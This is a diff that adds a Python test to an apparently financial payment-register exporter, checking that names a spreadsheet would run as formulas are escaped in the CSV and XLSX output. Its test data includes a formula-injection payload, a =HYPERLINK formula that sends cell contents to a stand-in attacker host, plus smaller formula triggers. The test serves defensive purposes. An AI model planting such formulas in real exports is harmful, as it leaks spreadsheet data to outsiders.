@@ -160,3 +160,37 @@ def test_an_unreadable_register_is_refused_in_one_line() -> None:
         b"statement_id,amount_kzt,sha256,payment_ref\n=1+1,1.00,ab,PP\n", "r.csv"
     )
     assert row.problem == "statement_id '=1+1' is not a statement number"
+
+
+def test_names_never_become_formulas_in_the_files() -> None:
+    """A name a spreadsheet would run (``=HYPERLINK(…)``) stays text in CSV and XLSX."""
+    from dataclasses import replace
+
+    from server.money.documents.register import Register, RegisterRow
+
+    evil = '=HYPERLINK("http://attacker.example/?"&A1,"open")'
+    row = RegisterRow(
+        statement_id=7,
+        period="2026-03",
+        kind="original",
+        status="approved",
+        contractor_bin=BIN_A,
+        contractor_name=evil,
+        iban=IBAN,
+        bic="KCJBKZKX",
+        bank_name="+bank",
+        amount_kzt=Decimal("-1.50"),
+        sha256="ab" * 32,
+        payment_ref="",
+        problem="",
+    )
+    register = Register("2026-03", (row, replace(row, statement_id=8, contractor_name="@SUM(1)")))
+    (first, second) = csv_rows(register_csv(register))
+    assert first["contractor_name"] == "'" + evil
+    assert (first["bank_name"], second["contractor_name"]) == ("'+bank", "'@SUM(1)")
+    assert first["amount_kzt"] == "-1.50"  # a number stays a number
+    ws = load_workbook(io.BytesIO(register_xlsx(register, lang="en"))).active
+    assert ws is not None
+    cells = [c for r in ws.iter_rows() for c in r if c.value == evil]
+    assert len(cells) == 1
+    assert cells[0].data_type == "s"
